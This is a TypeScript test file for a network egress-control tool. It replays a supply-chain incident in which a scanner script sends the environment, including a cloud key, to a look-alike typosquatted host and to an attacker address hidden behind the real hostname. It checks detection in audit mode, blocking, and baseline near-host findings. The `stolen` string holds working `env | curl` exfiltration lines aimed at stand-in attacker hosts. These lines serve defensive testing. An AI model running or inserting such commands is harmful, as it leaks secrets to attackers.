// docs/incidents/look-alike-host.md
import t from 'tap'
import { addresses } from '../../lab/addresses.ts'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { baselineOf, itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(120_000)

const real = 'scan.acme-security.test'
const alike = 'scan.acme-securtiy.test'
const thief = addresses.attacker.v4
const token = 'tidegate-replay-cloud-key'

const honest = `curl -sS --fail -o /dev/null -d '{"findings":0}' https://${real}/upload
`

/** The scanner's own work, and before it what it took along; then the right name at the wrong address. */
const stolen = `env | curl -sS -m 10 -o /dev/null --data-binary @- https://${alike}/ || true
env | curl -sS -m 10 -k -o /dev/null --resolve ${real}:443:${thief} --data-binary @- https://${real}/ || true
${honest}`

const incident: Incident<'scan'> = {
  attacker: [alike],
  honest: [real, 'tools.acme-security.test'],
  spoils: [token],
  // Everything of the vendor is allowed: what is nearly the vendor is not.
  policy: 'allow:\n  - "**.acme-security.test"\n',
  env: { CLOUD_KEY: token },
  steps: { scan: 'curl -sS --fail -o scan.sh https://tools.acme-security.test/scan.sh && sh scan.sh' },
}

t.test('Trivy, 2026: an upload to a host two letters away from the right one', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  const serve = (body: string) => lab.origins.script('tools.acme-security.test', '/scan.sh', { status: 200, body })
  await serve(stolen)
  const by = { exe: /\/curl$/, parent: /\/(?:da)?sh$/ }

  await t.test('in audit: both ways out are seen and named', async t => {
    const run = await replay(lab, incident, 'audit')
    await itWorked(t, lab, incident)
    t.equal((await lab.sink.requests()).length, 2, 'by the name, and by the address')
    itIsTold(t, run, { ...by, host: alike, reason: 'no-rule', verdict: 'observe', layer: 'http', method: 'POST' })
    itIsTold(t, run, { ...by, host: thief, reason: 'address-literal', verdict: 'observe', port: 443 })
  })
  await t.test('in block: neither works, and the scan does', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    itIsTold(t, run, { ...by, host: alike, reason: 'no-rule', verdict: 'deny', layer: 'dns' })
    itIsTold(t, run, { ...by, host: real, reason: 'address-literal', verdict: 'deny', layer: 'http' })
    t.equal(run.step('scan').exitCode, 0, run.step('scan').stderr)
    t.match(await lab.origins.requests({ host: real, path: '/upload' }), [{ method: 'POST', complete: true }])
  })
  await t.test('against a baseline: nearly a known host', async t => {
    await serve(honest)
    const options = await baselineOf(lab, await replay(lab, incident, 'audit'))
    const same = await replay(lab, { ...incident, options }, 'audit')
    t.strictSame(same.findings, [], 'the same again is quiet')
    await serve(stolen)
    const run = await replay(lab, { ...incident, options }, 'audit')
    t.match(
      run.findings.find(({ host }) => host === alike),
      { kind: 'near-host', process: /curl/ },
    )
  })
})
